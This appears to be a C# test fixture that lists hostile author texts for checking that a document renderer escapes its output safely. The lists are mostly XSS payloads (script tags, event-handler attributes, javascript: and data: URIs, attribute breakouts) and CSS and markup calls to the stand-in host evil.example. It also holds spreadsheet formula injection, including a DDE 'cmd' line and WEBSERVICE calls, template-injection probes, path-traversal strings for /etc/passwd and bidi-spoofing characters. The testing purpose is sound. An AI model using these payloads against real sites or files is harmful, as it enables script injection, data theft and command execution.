namespace Plan.Tests.Output;

/// <summary>
/// What an author can say that a careless program would take for something else than text: markup, addresses, Markdown, styles,
/// templates, formulas, names of files, and characters that hide. Each document is tried with all of them.
/// </summary>
internal static class HostileTexts
{
    // Where a text would lead out, it leads here: a host that no one has.
    private const string Evil = "http://evil.example";

    private static readonly string[] s_markup =
    [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=http://evil.example/x.js></script>", "<script\n>alert(1)</script>",
        "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)",
        "<script type=module>import 'http://evil.example/x.js'</script>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x /></svg>",
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", "<img src=http://evil.example/x.png>",
        "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img srcset='http://evil.example/x.png 1x'>", "<image href=x onerror=alert(1)>",
        "<picture><source srcset=http://evil.example/x></picture>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=http://evil.example/x></object>", "<embed src=http://evil.example/x.svg>",
        "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=http://evil.example/x.mp3 autoplay>",
        "<track src=http://evil.example/x default>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>", "<form action=http://evil.example><button>x</button></form>",
        "<isindex action=javascript:alert(1) type=submit>", "<base href=http://evil.example/>", "<link rel=stylesheet href=http://evil.example/x.css>",
        "<link rel=preload as=image href=http://evil.example/x>", "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<style>@import 'http://evil.example/x.css';</style>",
        "<style>*{background:url(http://evil.example/x)}</style>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"http://evil.example\" ping=http://evil.example/p>x</a>", "<p style=\"background:url(http://evil.example/x)\">x</p>",
        "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x/>", "<!doctype html>", "<!-- x --!><img src=x onerror=alert(1)>",
        "<plaintext>", "<xmp>", "<title>x", "</main></body></html>", "</table></td></tr></tbody>", "<td><tr><table>",
    ];

    private static readonly string[] s_breakouts =
    [
        "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
        "\" autofocus onfocus=alert(1) x=\"", "x\" style=\"background:url(http://evil.example/x)", "\"/><script>alert(1)</script>", "x onerror=alert(1)",
        "</title></style></textarea><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "*/</style><script>alert(1)</script>",
        "\"]);alert(1);//", "';alert(1);'", "\\\";alert(1);//", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\"; content: url(http://evil.example/x); \"", "}</style>{", "} body { background: url(http://evil.example/x) } {", "\\\"} @import 'http://evil.example';",
        "#5\" filter=\"url(http://evil.example/#x)", "url(http://evil.example/x)", "expression(alert(1))", "</svg></text></title></desc><script>alert(1)</script>",
    ];

    private static readonly string[] s_schemes =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript%3Aalert(1)",
        "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:http://evil.example/x", "file:///etc/passwd", "view-source:http://evil.example", "filesystem:http://evil.example/x", "ms-excel:ofv|u|http://evil.example", "//evil.example/x", "\\\\evil.example\\x",
    ];

    private static readonly string[] s_markdown =
    [
        "![x](http://evil.example/x.png)", "![x][r]\n\n[r]: http://evil.example/x.png", "<http://evil.example>", "http://evil.example/ www.evil.example", "[ref]: http://evil.example", "[^1] [^prov-1]: x", "[^drift-1]",
        "`code` ``` ~~~", "```\ncode", "~~~ html\n<script>alert(1)</script>", "    <script>alert(1)</script>", "*a* _b_ **c** __d__ ~e~ ~~f~~ ^g^ ==h== $f$ $$g$$", "***", "---", "- - -", "| a | b |", "a | b\n--|--\n1 | 2", "|", "||", "\\| \\* \\\\", "\\", "\\\\|",
        "# h", "###### h ######", "#", "C #", "x\n===", "x\n---", "- item", "+ item", "* item", "- [ ] task", "1. item", "2) item", "123456789. item", "> quote", ">", "=== ---", ": x", "term\n: definition", "!!! note", ":::html", "::: {.x onclick=alert(1)}", "{onclick=alert(1)}", "x {#id .class onclick=alert(1)}",
        "[x]{onclick=alert(1)}", "![x](x){onerror=alert(1)}", "[[toc]]", "[TOC]", "@mention #1 :smile:", "*[HTML]: x", "one\ntwo", "one\n\ntwo", "one  \ntwo", "a\\\nb", "[", "]", "](", "[]()", "![](", "(", ")", "<", ">", "&", "\"", "'",
        "[x](<a b>)", "[x](http://evil.example \"x\" onclick=alert(1))", "[x](http://evil.example/\"onmouseover=\"alert(1))", "<a@evil.example>", "[x](goal:g)", "[](cell:drift/t/budget-2025)", "![x](goal:g)", "[x](#content)",
    ];

    private static readonly string[] s_others =
    [
        "&lt;b&gt; &amp; &#x3c; &copy;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C", "&notanentity;", "&#0;", "&#xD800;", "&#1114112;", "&nbsp;",
        "{{ 1 + 1 }} {% x %}", "{{ include 'page' }}", "{{~ for i in 1..100 ~}}x{{ end }}", "{{ raw", "}}", "{%{ x }%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{count|a|b}", "{0}", "{stated}", "%s%n%x",
        "=1+1", "=HYPERLINK(\"http://evil.example\";\"x\")", "=WEBSERVICE(\"http://evil.example\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "|x", "'=1", "_x0041_", "&L&P&\"x", "[]:*?/\\", "A1", "R1C1", "TRUE", "1E9", "#REF!",
        "yes", "null", "~", "- a: b", "a: [b", "!!js/function x", "&a *a", "%YAML 1.2", "...", "__proto__", "constructor", "toString",
        "../../etc/passwd", "..\\..\\x", "CON", "x.html", "/etc/passwd", "a\u00adb", "\u202Etxt.exe", "\u2066x\u2069\u202A", "\u200Bx\u200D", "x\u2028y\u2029z", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "\uE000x\uE003\uE005", "😀👩‍👩‍👧", "ﷺ", "İıſK", "\u00A0Ett ord", "x\u0085y",
        "Ett\tord", "  Ett ord  ", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ];

    /// <summary>Every one of them, each once.</summary>
    public static readonly string[] All =
    [
        .. s_markup, .. s_breakouts, .. s_schemes, .. s_schemes.Select(address => $"[x]({address})"), .. s_schemes.Select(address => $"![x](<{address}>)"),
        .. s_markdown, .. s_others, $"[x]({Evil})", $"<a href={Evil}>x</a>",
    ];
}
